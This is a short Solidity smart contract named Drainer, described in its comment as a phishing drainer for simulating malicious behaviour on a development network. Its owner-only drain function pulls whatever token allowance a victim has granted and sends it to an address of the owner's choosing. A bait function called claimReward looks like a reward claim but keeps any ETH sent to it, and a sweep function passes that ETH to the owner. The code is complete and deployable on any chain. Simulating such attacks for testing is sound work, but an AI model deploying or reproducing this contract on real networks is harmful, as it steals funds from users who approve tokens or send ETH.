// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";

/// @notice A phishing drainer, for simulating malicious behaviour on the devnet: it takes whatever a victim
/// approved, and keeps the ETH sent to its bait function.
contract Drainer is Ownable {
    using SafeERC20 for IERC20;

    event Drained(address indexed token, address indexed victim, uint256 amount);
    event RewardClaimed(address indexed user, uint256 value);

    constructor(address owner_) Ownable(owner_) {}

    function drain(IERC20 token, address victim, address to) external onlyOwner returns (uint256 amount) {
        uint256 allowance = token.allowance(victim, address(this));
        uint256 balance = token.balanceOf(victim);
        amount = allowance < balance ? allowance : balance;
        if (amount > 0) token.safeTransferFrom(victim, to, amount);
        emit Drained(address(token), victim, amount);
    }

    function claimReward() external payable {
        emit RewardClaimed(msg.sender, msg.value);
    }

    function sweep(address payable to) external onlyOwner {
        Address.sendValue(to, address(this).balance);
    }
}
